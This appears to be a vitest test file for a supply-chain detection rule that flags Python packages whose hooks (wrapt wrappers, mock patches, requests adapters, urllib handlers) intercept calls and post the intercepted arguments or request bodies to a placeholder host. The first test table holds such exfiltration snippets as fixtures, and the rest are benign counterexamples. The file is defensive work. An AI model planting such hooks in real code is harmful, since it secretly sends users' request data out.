import { expect, test } from 'vitest';
import { loadPythonParser } from '../../src/python/parser.js';
import { readSource } from '../../src/python/read-source.js';
import parameterToNetwork from '../../src/rules/parameter-to-network.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });

async function severities(text: string): Promise<readonly string[]> {
  const { facts } = await readSource({ path: 'garden-1.0/src/garden/build.py', bytes: Buffer.from(`import urllib.request\n${text}\n`), runs: 'import' }, () => parser);
  return facts === null ? [] : parameterToNetwork.check(facts).map(({ severity }) => severity);
}

const send = (given: string): string => `urllib.request.urlopen("https://garden.example.invalid/", data=${given})`;

test.each([
  ['wraps it by its name', `import wrapt\ndef mine(wrapped, instance, args, kwargs):\n    ${send('repr(args).encode()')}\n    return wrapped(*args)\nwrapt.wrap_function_wrapper("meadow", "Session.send", mine)`],
  ['stands below what wraps', `import wrapt\n@wrapt.patch_function_wrapper("meadow", "sow")\ndef mine(wrapped, instance, args, kwargs):\n    ${send('repr(args).encode()')}`],
  ['is its mock', `from unittest import mock\ndef mine(seed):\n    ${send('seed')}\nmock.patch("meadow.sow", mine).start()`],
  ['is the mock of a part of it', `from unittest.mock import patch\nimport meadow\ndef mine(self, seed):\n    ${send('seed')}\npatch.object(meadow.Bed, "sow", new=mine).start()`],
  ['is an adapter for each request', `import requests\nclass Mine(requests.adapters.HTTPAdapter):\n    def send(self, request, **rest):\n        ${send('request.body')}\n        return super().send(request, **rest)`],
  ['handles each request', `import http.client\nclass Mine(urllib.request.BaseHandler):\n    def https_request(self, request):\n        http.client.HTTPSConnection("garden.example.invalid").request("POST", "/", request.data)\n        return request`],
])("a function that %s and sends what it is given to one address is blocked", async (_how, text) => {
  expect(await severities(text)).toContain('critical');
});

test.each([
  ['passes on what it was given', 'import requests\nclass Mine(requests.adapters.HTTPAdapter):\n    def send(self, request, **rest):\n        request.headers["leaf"] = "green"\n        return super().send(request, **rest)'],
  ['connects in its own way', 'import requests\nimport httpx\nclass Mine(requests.adapters.HTTPAdapter):\n    def send(self, request, **rest):\n        return httpx.request(request.method, request.url, content=request.body)'],
  ['counts calls', `import wrapt\ndef mine(wrapped, instance, args, kwargs):\n    ${send('b"1"')}\n    return wrapped(*args)\nwrapt.wrap_function_wrapper("meadow", "Session.send", mine)`],
  ['opens files', 'class Mine(urllib.request.BaseHandler):\n    def garden_open(self, request):\n        return open(request.selector)'],
])('a hook that %s is what such hooks are for', async (_how, text) => {
  expect(await severities(text)).toEqual([]);
});
